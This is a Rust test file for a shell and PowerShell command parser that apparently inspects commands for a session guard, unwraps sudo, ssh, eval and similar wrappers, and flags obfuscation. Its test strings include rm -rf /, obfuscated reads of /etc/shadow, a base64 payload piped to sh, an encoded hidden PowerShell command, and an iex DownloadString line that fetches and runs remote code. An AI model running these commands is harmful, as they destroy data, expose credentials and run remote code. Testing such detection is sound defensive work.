//! Command text -> invocations.

use std::collections::BTreeSet;

use proptest::prelude::*;
use warden_session::command::Mark;
use warden_session::shell::{Dialect, Unfinished, parse, unfinished};

/// `via > via: command line` of every invocation.
fn shown(text: &str) -> Vec<String> {
    let line =
        |via: &[String], line: String| if via.is_empty() { line } else { format!("{}: {line}", via.join(" > ")) };
    parse(text, Dialect::Posix).invocations.iter().map(|i| line(&i.via, i.command_line())).collect()
}

#[test]
fn commands_are_found() {
    let rows: &[(&str, &[&str])] = &[
        ("ls -l /etc", &["ls -l /etc"]),
        ("a && b || c; d & e", &["a", "b", "c", "d", "e"]),
        ("cat f | grep 'a b' | wc -l", &["cat f", "grep a b", "wc -l"]),
        ("ls >out 2>&1 </dev/null -l", &["ls -l"]),
        ("2>/dev/null chattr >/dev/null +i /etc/x", &["chattr +i /etc/x"]),
        ("X=1 Y=2 make all", &["make all"]),
        ("X=1", &[]),
        ("(cd /x; make) && { a; b; }", &["cd /x", "make", "a", "b"]),
        ("if test -f x; then a; elif b; then c; else d; fi", &["test -f x", "a", "b", "c", "d"]),
        ("for i in 1 2; do echo $i; done", &["echo 1", "echo 2"]),
        ("for f in *.py\ndo wc $f\ndone", &["wc *.py"]),
        ("while read x; do rm $x; done < list", &["read x", "rm $x"]),
        ("case $1 in a|b) foo;; *) bar;; esac; baz", &["foo", "bar", "baz"]),
        ("f() { rm -rf /x; }", &["rm -rf /x"]),
        ("f() { rm -rf $1; }; f /y", &["f /y", "rm -rf /y"]),
        ("function g { a; }", &["a"]),
        ("echo $(id -u) `whoami`", &["id -u", "whoami", "echo $(id -u) `whoami`"]),
        ("diff <(ls a) <(ls b)", &["ls a", "ls b", "diff <(ls a) <(ls b)"]),
        ("# rm -rf /\nls # x", &["ls"]),
        ("echo a\\\nb", &["echo ab"]),
        ("cat <<EOF | sh -x\nrm -rf /\nEOF\nls", &["cat", "sh -x", "sh: rm -rf /", "ls"]),
        ("bash <<'E'\naws s3 ls\nE", &["bash", "bash: aws s3 ls"]),
        ("sh <<< 'id'", &["sh", "sh: id"]),
        ("! grep -q x f", &["grep -q x f"]),
        ("[[ -f x && $a == b* ]] && ls", &["ls"]),
        ("((i++)); ls", &["ls"]),
        ("a=rm; $a -rf x", &["rm -rf x"]),
        ("a=(x y z); \"${a[@]}\"", &["x y z"]),
        ("a=ls; (a=rm); $a", &["ls"]),
        ("${zz:-nmap} -sS h", &["nmap -sS h"]),
        ("cat${IFS}/etc/shadow", &["cat /etc/shadow"]),
        ("{cat,/etc/shadow}", &["cat /etc/shadow"]),
        ("echo {a,b}{1..3}", &["echo a1 a2 a3 b1 b2 b3"]),
        ("find . -exec grep -l {} \\; -name '{}'", &["find . -exec grep -l {} ; -name {}", "find -exec: grep -l {}"]),
        ("c'a't /e?c/sh*w", &["cat /e?c/sh*w"]),
        ("alias ll='rm -rf /'; ll /x", &["alias ll=rm -rf /", "rm -rf / /x"]),
        ("time (sleep 1; ls)", &["sleep 1", "ls"]),
        ("if true\n  echo fish\nend", &["true", "echo fish"]),
        ("for x in a b; echo $x; end", &["echo a", "echo b"]),
    ];
    for (text, expected) in rows {
        assert_eq!(shown(text), *expected, "{text}");
    }
}

#[test]
fn wrappers_are_taken_off() {
    let rows: &[(&str, &[&str])] = &[
        ("sudo rm -rf /x", &["sudo rm -rf /x", "sudo: rm -rf /x"]),
        ("sudo -u root -- id", &["sudo -u root -- id", "sudo: id"]),
        ("sudo -nu root A=1 id", &["sudo -nu root A=1 id", "sudo: id"]),
        ("sudo -l", &["sudo -l"]),
        ("sudo -i", &["sudo -i"]),
        (
            "sudo bash -c 'rm -rf /x'",
            &["sudo bash -c rm -rf /x", "sudo: bash -c rm -rf /x", "sudo > bash -c: rm -rf /x"],
        ),
        ("su - x -c 'id; ls'", &["su - x -c id; ls", "su -c: id", "su -c: ls"]),
        ("env -i A=b -u C id", &["env -i A=b -u C id", "env: id"]),
        ("nohup nice -n 5 ls -l &", &["nohup nice -n 5 ls -l", "nohup: nice -n 5 ls -l", "nohup > nice: ls -l"]),
        ("timeout -k 1 5s curl x", &["timeout -k 1 5s curl x", "timeout: curl x"]),
        ("ls | xargs -n 1 -I{} rm {}", &["ls", "xargs -n 1 -I{} rm {}", "xargs: rm {}"]),
        ("exec -a x bash -l", &["exec -a x bash -l", "exec: bash -l"]),
        ("eval 'a; b'", &["eval a; b", "eval: a", "eval: b"]),
        (
            "docker exec -it -u 0 web sh -c 'id'",
            &["docker exec -it -u 0 web sh -c id", "docker exec: sh -c id", "docker exec > sh -c: id"],
        ),
        ("kubectl exec -n ns pod -c c -- cat /x", &["kubectl exec -n ns pod -c c -- cat /x", "kubectl exec: cat /x"]),
        ("ssh -i k u@h 'rm x; ls'", &["ssh -i k u@h rm x; ls", "ssh: rm x", "ssh: ls"]),
        ("python3 -c 'import os; os.system(\"id\")'", &["python3 -c import os; os.system(\"id\")", "python3 -c: id"]),
        ("awk 'BEGIN{system(\"id\")}'", &["awk BEGIN{system(\"id\")}", "awk: id"]),
        ("flock /tmp/l -c 'id'", &["flock /tmp/l -c id", "flock -c: id"]),
        (
            "systemd-run --unit=x /bin/sh -c 'id'",
            &["systemd-run --unit=x /bin/sh -c id", "systemd-run: /bin/sh -c id", "systemd-run > sh -c: id"],
        ),
    ];
    for (text, expected) in rows {
        assert_eq!(shown(text), *expected, "{text}");
    }
}

#[test]
fn unfinished_text_wants_a_line() {
    let doc = |delimiter: &str, tabs| Some(Unfinished::HereDoc { delimiter: delimiter.to_owned(), tabs });
    let rows = [
        ("ls", None),
        ("", None),
        ("echo \"a", Some(Unfinished::Quote)),
        ("echo \"a\nb\"", None),
        ("echo 'a", Some(Unfinished::Quote)),
        ("echo $'a\\'", Some(Unfinished::Quote)),
        ("# it's", None),
        ("echo it\\'s", None),
        ("ls \\", Some(Unfinished::Backslash)),
        ("ls\\", Some(Unfinished::Backslash)),
        ("ls \\\n-l", None),
        ("a |", Some(Unfinished::Operator)),
        ("a &&", Some(Unfinished::Operator)),
        ("a ||", Some(Unfinished::Operator)),
        ("a &", None),
        ("if true", Some(Unfinished::Compound)),
        ("if true; then a; fi", None),
        ("for f in a b c\ndo\n  echo", Some(Unfinished::Compound)),
        ("for f in a b c\ndo\n  echo\ndone", None),
        ("f() {", Some(Unfinished::Compound)),
        ("f() {\n a\n}", None),
        ("(a", Some(Unfinished::Compound)),
        ("x=$(a", Some(Unfinished::Compound)),
        ("x=`a", Some(Unfinished::Compound)),
        ("case x in", Some(Unfinished::Compound)),
        ("case x in a) b;; esac", None),
        ("a=(1", Some(Unfinished::Compound)),
        ("cat <<EOF", doc("EOF", false)),
        ("cat <<-'E F' | wc", doc("E F", true)),
        ("cat <<EOF\nx", doc("EOF", false)),
        ("cat <<EOF\nit's\nEOF", None),
        ("cat <<A <<B\na\nA", doc("B", false)),
        ("python3 - <<'PY'\nimport os\nPY", None),
        ("echo $((1+2))", None),
        ("awk '\nBEGIN { print }", Some(Unfinished::Quote)),
    ];
    for (text, expected) in rows {
        assert_eq!(unfinished(text), expected, "{text:?}");
    }
}

#[test]
fn hidden_text_is_marked() {
    let hidden = [
        "c\\at x",
        "'r'm x",
        "r\"\"m x",
        "$'\\x72m' x",
        "a=r;${a}m x",
        "cat${IFS}/etc/shadow",
        "{cat,x}",
        "c[a]t x",
        "/bin/c?t x",
        "x=aWQ=; echo $x | base64 -d | sh",
        "$(printf ls) x",
    ];
    let ordinary = [
        "\\ls -l",
        "echo \"a b\" 'c d'",
        "git commit -m \"it's\"",
        "echo 'it'\\''s'",
        "mysql -p\"secret\"",
        "a=ls; $a",
        "ls *.txt",
        "grep --include=\"*.rs\" x",
        "\"$HOME\"/bin/x",
        "$EDITOR f",
        "echo $(id)",
        "[ -f x ]",
        "printf '\\n'",
    ];
    let mark = BTreeSet::from([Mark::Obfuscated]);
    for text in hidden {
        assert_eq!(parse(text, Dialect::Posix).marks, mark, "{text}");
    }
    for text in ordinary {
        assert_eq!(parse(text, Dialect::Posix).marks, BTreeSet::new(), "{text}");
    }
}

#[test]
fn hostile_text_ends() {
    let n = 1 << 20;
    for piece in [
        "$(",
        "((",
        "(",
        "`",
        "{",
        "if ",
        "a=(",
        "${x:-",
        "\"$(",
        "<<E$[\t\t",
        "<(",
        "{a,",
        "case x in ",
        "! ",
        "f()",
        "eval ",
        "sudo ",
        "$[",
        "a|",
        "<<a ",
        "x=$x$x;",
        "\\",
        "'",
        "[[ ",
        "while :; do ",
        "coproc ",
        "time ",
        "function f ",
    ] {
        let text = piece.repeat(n / piece.len());
        parse(&text, Dialect::Posix);
        parse(&text, Dialect::PowerShell);
        unfinished(text.get(..60_000).unwrap());
        parse(text.get(..60_000).unwrap(), Dialect::Posix);
    }
    parse("while :; do a=$a$a$a; f() { f; f; }; f; done", Dialect::Posix);
}

proptest! {
    #[test]
    fn any_text_is_read(text in "\\PC{0,200}") {
        parse(&text, Dialect::Posix);
        parse(&text, Dialect::PowerShell);
        unfinished(&text);
    }

    #[test]
    fn shell_like_text_is_read(text in "([a-z$(){}`'\"<>|&;#\\[\\] \n\\\\=~!*?0-9-]|\\$\\(|if |do |<<E|\\$\\{|esac|f\\(\\)){0,80}") {
        for invocation in parse(&text, Dialect::Posix).invocations {
            prop_assert!(!invocation.argv.is_empty());
        }
        unfinished(&text);
    }
}

#[test]
fn powershell_is_read() {
    let shown = |text: &str| -> Vec<String> {
        let line =
            |via: &[String], line: String| if via.is_empty() { line } else { format!("{}: {line}", via.join(" > ")) };
        parse(text, Dialect::PowerShell).invocations.iter().map(|i| line(&i.via, i.command_line())).collect()
    };
    let rows: &[(&str, &[&str])] = &[
        ("Get-Process | Stop-Process -Name 'a b' ; dir", &["Get-Process", "Stop-Process -Name a b", "dir"]),
        ("$x = Get-Content C:\\a.txt", &["Get-Content C:\\a.txt"]),
        ("& 'C:\\Program Files\\x.exe' -a", &["C:\\Program Files\\x.exe -a"]),
        ("if ($true) { Remove-Item C:\\x }", &["Remove-Item C:\\x"]),
        (
            "powershell -nop -w hidden -EncodedCommand dwBoAG8AYQBtAGkA",
            &["powershell -nop -w hidden -EncodedCommand dwBoAG8AYQBtAGkA", "powershell -EncodedCommand: whoami"],
        ),
        (
            "powershell.exe -Command \"Stop-Service x; dir\"",
            &[
                "powershell.exe -Command Stop-Service x; dir",
                "powershell -Command: Stop-Service x",
                "powershell -Command: dir",
            ],
        ),
        ("cmd /c \"whoami & net user\"", &["cmd /c whoami & net user", "cmd /c: whoami", "cmd /c: net user"]),
        ("iex 'Get-Date'", &["iex Get-Date", "iex: Get-Date"]),
        ("'Get-Date' | Invoke-Expression", &["Invoke-Expression", "invoke-expression: Get-Date"]),
        ("iex ('Get-'+'Date')", &["iex Get-Date", "iex: Get-Date"]),
        ("& (\"{1}{0}\" -f 'ex','i') 'dir'", &["iex dir", "iex: dir"]),
        (
            "Start-Process calc.exe -ArgumentList '/a /b' -Wait",
            &["Start-Process calc.exe -ArgumentList /a /b -Wait", "start-process: calc.exe /a /b"],
        ),
        (
            "iex (New-Object Net.WebClient).DownloadString('http://x/y')",
            &[
                "New-Object Net.WebClient",
                "iex (New-Object Net.WebClient).DownloadString('http://x/y')",
                "iex: New-Object Net.WebClient",
            ],
        ),
        (
            "Get-ChildItem | ForEach-Object { Remove-Item $_ }",
            &["Get-ChildItem", "Remove-Item $_", "ForEach-Object { Remove-Item $_ }"],
        ),
    ];
    for (text, expected) in rows {
        assert_eq!(shown(text), *expected, "{text}");
    }
}
